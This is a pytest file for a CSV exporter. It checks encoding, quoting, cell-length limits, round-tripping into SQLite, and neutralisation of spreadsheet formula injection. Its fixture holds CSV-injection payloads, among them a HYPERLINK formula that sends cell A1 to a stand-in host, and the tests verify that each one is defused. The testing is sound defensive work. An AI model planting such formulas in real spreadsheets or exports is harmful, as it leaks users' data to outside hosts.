"""The CSV folder, cell by cell: right for code reading it and safe in a spreadsheet.

Code (Python's csv module, ``sqlite-utils insert --csv``, the sqlite3 shell)
must read every value back exactly; a spreadsheet must show ``…`` and curly
quotes, keep ``5.10`` as text, never run a cell as a formula, and never get
a cell longer than it holds. (LibreOffice itself opens the files in
test_export_spreadsheet.py.)
"""

from __future__ import annotations

import dataclasses
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from store import import_document, open_db
from store.reports.export_csv import (
    FORMULA_TRIGGERS,
    SPREADSHEET_CELL_LIMIT,
    raw_value,
    spreadsheet_cell,
)
from store.review.changes import update_action, update_recommendation
from tests.store.reports.exported import (
    as_csv,
    query,
    read_csv,
    read_csv_dicts,
    relations,
    rows_of,
)
from tests.support.cli_runner import run

# Values someone else wrote that a spreadsheet would run as formulas (OWASP's list).
FORMULAS = {
    "note": '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "response": "+44 20 7946 0000",
    "concern": "@SUM(1+1)",
    "recommendation": "=1+1",
    "heading": "-5 days",
    "section": "'quoted already",
}


@pytest.fixture
def awkward(db_path, make_plan) -> Path:
    """A plan whose cells are awkward for a spreadsheet: ``5.10``, curly quotes,
    formula-looking texts, a target "- ongoing", and a 200 KB document text."""
    plan = make_plan("awkward")
    plan.recommendations[0].rec_no = "5.10"
    plan.recommendations[1].rec_no = "007"
    plan.recommendations[2].recommendation = "Prisoners’ cells … “really” clean."
    body = "".join(f"Paragraph {i}: the régime – “unlock” … ‘soon’.\n" for i in range(4400))
    plan = dataclasses.replace(plan, text=plan.text + body)
    db = open_db(db_path)
    import_document(db, plan, "awkward.txt")
    rec_id = db.execute("SELECT id FROM recommendations WHERE rec_no = '5.10'").fetchone()[0]
    update_recommendation(db, "ann", rec_id, **FORMULAS)
    action = db.execute(
        "SELECT id FROM actions WHERE recommendation_id = ? ORDER BY position", [rec_id]
    ).fetchone()[0]
    update_action(db, "ann", action, target="- ongoing")
    db.close()
    return db_path


@pytest.fixture
def exported(awkward, tmp_path) -> Path:
    out = tmp_path / "awkward.csv"
    result = run("export", out, "--db", awkward)
    assert result.exit_code == 0, result.stderr
    assert "warning" not in result.stderr
    return out


def test_files_are_utf8_with_a_byte_order_mark(exported):
    for path in exported.glob("*.csv"):
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), path.name
        assert raw[3:].decode("utf-8")  # the rest is UTF-8
    recs = read_csv_dicts(exported / "recommendations.csv")
    assert "id" in recs[0]  # the mark is not part of the first column's name
    assert "Prisoners’ cells … “really” clean." in {r["recommendation"] for r in recs}


def test_text_is_quoted_numbers_and_null_are_not(exported, awkward):
    lines = (exported / "actions.csv").read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith('"id","recommendation_id","position","text","owner",')
    first = query(awkward, "SELECT * FROM actions ORDER BY id LIMIT 1")[0]
    cells = lines[1].split(",")
    assert cells[0] == str(first[0])  # a number, bare
    assert first[3] is None and cells[3] == ""  # NULL: an empty field, unquoted
    assert cells[4] == f'"{first[4]}"'  # text, quoted
    assert spreadsheet_cell("") == '""'  # an empty string is told apart from NULL
    assert spreadsheet_cell(-3) == "-3"  # a number is never neutralised
    assert spreadsheet_cell(0.25) == "0.25"
    assert spreadsheet_cell('say "hi", then') == '"say ""hi"", then"'


def test_a_leading_tab_carriage_return_or_nul_is_neutralised_too():
    # (the store strips a reviewer's leading whitespace; a parser's text may keep it)
    for value in ("\t=1+1", "\r=1+1", "\x00=1+1"):
        assert spreadsheet_cell(value) == f'"\'{value}"'
        assert raw_value(spreadsheet_cell(value)[1:-1]) == value


def test_numbers_written_as_text_stay_text(exported):
    rec_nos = [r["rec_no"] for r in read_csv_dicts(exported / "recommendations.csv")]
    assert rec_nos[:2] == ["5.10", "007"]
    raw = (exported / "recommendations.csv").read_text(encoding="utf-8-sig")
    assert ',"5.10",' in raw and ',"007",' in raw  # quoted: a spreadsheet can keep them as text


def test_a_cell_a_spreadsheet_would_run_is_neutralised_as_owasp_says(exported, awkward):
    rec = next(r for r in read_csv_dicts(exported / "recommendations.csv") if r["rec_no"] == "5.10")
    for column, value in FORMULAS.items():
        assert rec[column] == "'" + value, column  # a single quote before it ...
        assert raw_value(rec[column]) == value  # ... which is all there is to take off
    raw = (exported / "recommendations.csv").read_text(encoding="utf-8-sig")
    assert '"\'=HYPERLINK(""http://example.invalid/?""&A1,""Click"")"' in raw  # and quoted
    targets = [a["target"] for a in read_csv_dicts(exported / "outstanding_actions.csv")]
    assert "'- ongoing" in targets  # the cost: a "-" at the start is neutralised too
    # No text cell anywhere begins with a formula trigger.
    for path in exported.glob("*.csv"):
        for row in read_csv(path):
            assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in row), path.name
    # The SQLite and JSON exports hold the raw values.
    stored = query(awkward, "SELECT note, section FROM recommendations WHERE rec_no = '5.10'")
    assert stored == [(FORMULAS["note"], FORMULAS["section"])]


def test_every_value_reads_back_exactly_once_the_neutraliser_is_taken_off(exported, awkward):
    for name in relations(awkward, "table") | relations(awkward, "view"):
        rows = read_csv(exported / f"{name}.csv")
        text_file = rows[0].index("text_file") if name == "documents" else None
        stored = rows_of(awkward, name)
        assert len(rows) - 1 == len(stored), name
        for row, values in zip(rows[1:], stored, strict=True):
            for i, (cell, value) in enumerate(zip(row, values, strict=True)):
                if i == text_file:
                    continue
                expected = as_csv(value)
                assert (raw_value(cell) if isinstance(value, str) else cell) == expected, name


def test_a_long_document_text_is_a_file_of_its_own(exported, awkward):
    text = query(awkward, "SELECT text FROM documents")[0][0]
    assert len(text) > 200_000  # over six spreadsheet cells' worth
    (doc,) = read_csv_dicts(exported / "documents.csv")
    assert "text" not in doc and doc["text_file"] == "documents/1.txt"
    with (exported / doc["text_file"]).open(encoding="utf-8", newline="") as fh:
        assert fh.read() == text  # character for character: the spans index into it
    longest = max(
        len(cell) for path in exported.glob("*.csv") for row in read_csv(path) for cell in row
    )
    assert longest <= SPREADSHEET_CELL_LIMIT


def test_a_record_text_too_long_for_a_cell_is_reported(awkward, tmp_path):
    db = open_db(awkward)
    update_recommendation(db, "ann", 2, response="x" * (SPREADSHEET_CELL_LIMIT + 1))
    db.close()

    result = run("export", tmp_path / "long.csv", "--db", awkward)

    assert result.exit_code == 0, result.stderr
    assert "warning: cells longer than a spreadsheet cell holds (32,767 characters)" in (
        result.stderr
    )
    assert "recommendations.response (1)" in result.stderr
    assert "outstanding_actions" not in result.stderr  # the view does not show responses
    json_out = tmp_path / "long.json"
    assert run("export", json_out, "--db", awkward).exit_code == 0
    doc = json.loads(json_out.read_text(encoding="utf-8"))
    assert len(doc["tables"]["recommendations"][1]["response"]) == SPREADSHEET_CELL_LIMIT + 1


def test_sqlite_utils_reads_the_files_back_exactly_with_no_detect_types(
    exported, awkward, tmp_path
):
    """sqlite-utils 4 guesses column types by default, which would make rec_no 5.10 the
    number 5.1; with --no-detect-types, as README says, every value comes back as written."""
    cli = Path(sys.executable).with_name("sqlite-utils")
    if not cli.exists():
        pytest.skip("sqlite-utils command not installed beside this Python")
    target = tmp_path / "back.db"
    for name in ("recommendations", "actions", "outstanding_actions"):
        subprocess.run(
            [cli, "insert", target, name, exported / f"{name}.csv", "--csv", "--no-detect-types"],
            check=True,
            capture_output=True,
        )
        back = query(target, f'SELECT * FROM "{name}" ORDER BY rowid')
        assert [list(r) for r in back] == read_csv(exported / f"{name}.csv")[1:], name
    assert query(target, "SELECT rec_no FROM recommendations ORDER BY rowid LIMIT 2") == [
        ("5.10",),
        ("007",),
    ]


def test_the_sqlite3_shell_imports_the_files(exported, awkward):
    shell = shutil.which("sqlite3")
    if not shell:
        pytest.skip("no sqlite3 shell")
    done = subprocess.run(
        [
            shell,
            ":memory:",
            f".import --csv {exported / 'recommendations.csv'} r",
            'SELECT "id", rec_no FROM r LIMIT 2;',
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.split() == ["1|5.10", "2|007"]  # the byte-order mark is not in "id"
